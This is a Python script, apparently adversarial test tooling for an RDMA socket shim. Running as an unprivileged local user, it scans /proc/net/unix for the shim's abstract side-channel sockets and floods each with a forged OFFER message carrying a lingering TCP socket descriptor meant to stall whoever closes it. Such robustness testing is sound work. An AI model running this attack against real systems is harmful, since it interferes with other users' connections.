#!/usr/bin/env python3
"""A local user (run as `nobody`) forging OFFERs to every side channel it can see, for a while
(pgbench_beside_attackers.sh).

  side_channel_storm.py SECONDS

Every 20 ms reads /proc/net/unix; to each new side-channel name of a shimmed client
("@rdmasock/v2/tcp-inode/N") it connects and sends a well-formed OFFER carrying a lingering TCP
socket (unsent bytes to a zero window, SO_LINGER {1,120}: whoever closes it last waits), or the
OFFER alone where the fd is refused (SO_PASSRIGHTS). Prints how many names it attacked, then
exits after SECONDS (its baits close with it: its own last closes are the ones that wait, in
this process).
"""
import array
import signal
import socket
import struct
import sys
import time

from lingering_socket import lingering  # (this folder)

MAGIC, VERSION = 0x32565352, 2
KEEP = []


def offer(inode, bait):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.setblocking(False)
    try:
        s.connect(b"\0rdmasock/v2/tcp-inode/%d" % inode)
    except OSError:
        s.close()
        return "gone"
    data = struct.pack("<IHBBiIQ", MAGIC, VERSION, 1, 0, 3, 0, 1 << 16)
    try:
        s.sendmsg([data], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [bait.fileno()]))])
        r = "with a lingering socket"
    except OSError:
        try:
            s.send(data)
            r = "alone"
        except OSError:
            r = "refused"
    KEEP.append(s)
    return r


def names():
    out = set()
    with open("/proc/net/unix") as f:
        for line in f:
            p = line.split()
            if len(p) >= 8 and p[7].startswith("@rdmasock/v2/tcp-inode/") and p[5] == "01":  # listening
                out.add(int(p[7].rsplit("/", 1)[1]))
    return out


end = time.monotonic() + float(sys.argv[1])


def stop(*_):
    global end
    end = 0


signal.signal(signal.SIGTERM, stop)
signal.signal(signal.SIGINT, stop)
bait = lingering(120)
seen, kinds = set(), {}
while time.monotonic() < end:
    for ino in names() - seen:
        seen.add(ino)
        r = offer(ino, bait)
        kinds[r] = kinds.get(r, 0) + 1
    time.sleep(0.02)
print("attacked %d side channels: %s" % (len(seen), ", ".join("%s %d" % kv for kv in sorted(kinds.items()))), flush=True)
